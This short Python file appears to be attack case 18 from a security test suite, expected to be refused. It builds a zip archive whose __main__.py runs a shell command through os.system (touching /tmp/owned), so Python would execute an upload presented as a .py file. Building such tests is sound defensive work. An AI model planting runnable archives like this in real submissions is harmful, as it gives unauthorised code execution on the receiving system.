# attack: 18
# on: shell
# does: hands in an archive that Python would run, as a script
# run: refused
# earns: 0
# says: UTF-8
# suffix: .py
import zipfile


def make(path, notebook):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("__main__.py", "import os\nos.system('touch /tmp/owned')\n" * 1000)
